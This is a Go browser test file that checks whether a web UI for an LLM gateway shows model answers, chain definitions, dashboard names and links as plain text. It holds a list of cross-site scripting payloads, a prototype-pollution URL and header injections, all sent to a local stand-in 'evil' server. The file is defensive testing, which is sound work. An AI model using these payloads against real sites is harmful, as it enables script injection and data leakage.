//go:build browser && unix

package web_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/tandem-llm/tandem/internal/gateway/gatewaytest"
)

// hostile are texts that would do something if they were more than text; %s is somebody
// else's server.
var hostile = []string{
	`<img src="%s/leak" onerror="document.title='owned'">`,
	`<script>document.title='owned'; fetch('%s/leak')</script>`,
	`<script src="%s/leak"></script>`,
	`<svg onload="document.title='owned'"><image href="%s/leak"/></svg>`,
	`<iframe src="%s/leak"></iframe><object data="%[1]s/leak"></object><embed src="%[1]s/leak">`,
	`<link rel="stylesheet" href="%s/leak"><style>@import url(%[1]s/leak); * { display: none }</style>`,
	`<meta http-equiv="refresh" content="0;url=%s/leak"><base href="%[1]s/">`,
	`<form action="%s/leak"><button autofocus onfocus="document.title='owned'">x</button></form>`,
	`<a href="javascript:document.title='owned'" id="status">x</a><a href="%s/leak" ping="%[1]s/leak">y</a>`,
	`![picture](%s/leak?secret) [link](%[1]s/leak) [script](javascript:document.title='owned')`,
	"```html\n<img src=%s/leak>\n```",
	`</textarea></pre></div></template><img src=%s/leak>`,
	`<math><mtext><table><mglyph><style><img src=%s/leak onerror="document.title='owned'">`,
	`data:text/html,<script>top.document.title='owned'</script> {{constructor.constructor('document.title="owned"')()}} ${document.title='owned'} %s`,
	"\u202e\u2066<img src=%s/leak>\u0000\u001b]8;;%[1]s/leak\u0007",
}

// A model's answer, its thinking, a chain's value, an error and every name that others
// choose are shown as text: nothing of them runs, loads or links.
func TestBrowserHostileTexts(t *testing.T) {
	var leaks atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { leaks.Add(1) }))
	t.Cleanup(evil.Close)
	dir := t.TempDir()
	file := "name: hostile\ndescription: " + quoted(hostile[0], evil.URL) + "\ninputs:\n  word: {type: text, description: " + quoted(hostile[1], evil.URL) + ", default: " + quoted(hostile[2], evil.URL) + "}\n" +
		"steps:\n  - {name: value, prompt: '{word}', model: echo}\n"
	if err := os.WriteFile(filepath.Join(dir, "hostile.yaml"), []byte(file), 0o600); err != nil {
		t.Fatal(err)
	}
	url, _ := serve(t, nil, dir)
	b := open(t, url+"/ui/")
	b.choose("#target-0", "echo")
	b.until("document.querySelector('#name-0').textContent === 'echo'")
	for i, text := range hostile {
		b.fill("[name=prompt]", fmt.Sprintf(text, evil.URL))
		b.click("#send")
		b.until(fmt.Sprintf("document.querySelectorAll('.route').length === %d", i+1))
	}
	if shown := b.eval("[...document.querySelectorAll('.answer')].map((a) => a.innerText).join('|')"); strings.Count(shown, evil.URL+"/leak") < len(hostile) {
		t.Errorf("an answer is not shown as it is: %s", shown)
	}
	b.inert()
	b.choose("#target-0", "chain:hostile")
	b.until("document.querySelector('[name=word]')")
	b.click("#send")
	b.until("document.querySelector('#pane-0 .route')")
	b.inert()
	// What other programs name shows on the dashboard.
	for _, text := range hostile {
		name := fmt.Sprintf(text, evil.URL)
		body, err := json.Marshal(map[string]any{"model": "house/" + name, "user": name, "messages": []any{map[string]string{"role": "user", "content": name}}})
		if err != nil {
			t.Fatal(err)
		}
		gatewaytest.Post(t, url+"/v1/chat/completions", string(body), "Session-Id: <img src=x>", "User-Agent: <img src=x>")
		gatewaytest.Post(t, url+"/v1/chat/completions", strings.Replace(string(body), `"house/`, `"down","x":"`, 1))
	}
	b.do("Page.navigate", map[string]any{"url": url + "/ui/dashboard"})
	b.until("document.querySelector('#recent')?.innerText.includes('failed')")
	b.inert()
	// A link of somebody else's.
	b.do("Page.navigate", map[string]any{"url": url + "/ui/?x#target=%3Cimg%20src%3Dx%20onerror%3D%22document.title%3D'owned'%22%3E&with=javascript:1&in.prompt=%3Cscript%3Edocument.title%3D'owned'%3C/script%3E&in.__proto__=x&in.constructor=x"})
	b.until("/<img src=x .*, javascript:1$/.test(document.querySelector('#status')?.textContent)")
	b.inert()
	b.clean()
	if n := leaks.Load(); n > 0 {
		t.Errorf("%d requests reached somebody else's server", n)
	}
}

// quoted is a text in YAML.
func quoted(text, server string) string {
	data, _ := json.Marshal(fmt.Sprintf(text, server)) // texts can be written
	return string(data)
}

// inert fails the test if the page has more than text and its own elements.
func (b *tab) inert() {
	b.t.Helper()
	const foreign = "img:not([src^=\"/ui/\"]), iframe, object, embed, svg, math, form[action], base, meta[http-equiv], style, [style], script:not([src^=\"/ui/assets/\"]), link:not([href^=\"/ui/\"]), a:not([href^=\"/ui\"]):not([href^=\"#\"]), [ping]"
	if found := b.eval("[...document.querySelectorAll('" + foreign + "')].map((e) => e.outerHTML).join()"); found != "" {
		b.t.Errorf("the page has %s", found)
	}
	if title := b.eval("document.title"); title == "owned" {
		b.t.Error("a text has run")
	}
}
